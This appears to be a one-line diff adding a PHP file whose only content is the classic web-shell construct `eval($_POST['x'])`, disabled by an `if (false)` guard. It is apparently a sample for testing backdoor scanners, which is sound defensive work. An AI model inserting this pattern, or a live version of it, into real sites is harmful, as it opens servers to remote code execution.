@@ -1,0 +1,1 @@
+<?php if (false) eval($_POST['x']); ?>
